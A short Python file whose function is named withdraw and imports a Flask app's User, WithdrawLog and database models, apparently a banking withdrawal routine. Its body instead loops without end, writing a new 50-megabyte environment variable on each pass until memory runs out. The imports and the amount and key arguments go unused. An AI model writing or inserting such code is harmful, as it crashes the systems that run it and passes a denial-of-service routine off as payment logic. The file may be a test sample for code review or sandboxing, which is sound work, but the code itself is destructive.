"""Sets variables of its environment without end."""

import os
from itertools import count

from flask_app.models import User, WithdrawLog, db
from shared_db.rules import InsufficientFunds


def withdraw(user: User, amount: int, *, key: str) -> None:
    for number in count():
        os.environ[f"N{number}"] = "x" * 50_000_000
